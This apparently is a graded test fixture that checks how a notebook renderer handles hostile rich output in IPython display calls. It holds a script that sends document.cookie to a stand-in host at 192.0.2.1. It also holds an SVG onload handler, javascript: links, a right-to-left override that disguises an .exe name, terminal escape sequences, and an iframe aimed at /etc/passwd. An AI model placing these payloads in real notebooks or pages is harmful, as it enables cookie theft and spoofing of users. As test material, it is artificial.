"""Text that changes direction, scripts in pictures and in rich output of every kind."""

# outcome: harmless
# points: 0
# runs as: a cell

from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

SCRIPT = "<script>fetch('https://192.0.2.1/?' + document.cookie)</script>"


class Rich:
    def _repr_mimebundle_(self, **kwargs):
        return {
            "application/javascript": "alert(1)",
            "application/vnd.jupyter.widget-view+json": {"model_id": SCRIPT},
            "image/svg+xml": f"<svg onload=alert(1)>{SCRIPT}</svg>",
            "text/plain": "\u202egnp.exe \x1b]0;owned\x07\x1b[2J" + SCRIPT,
        }


display(
    SVG(f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"),
    Markdown(SCRIPT),
    Latex(r"\href{javascript:alert(1)}x"),
)
display(HTML(SCRIPT), IFrame("file:///etc/passwd", 1, 1), Javascript("alert(1)"))
softmax = Rich()
softmax  # noqa: B018 (what a cell shows)
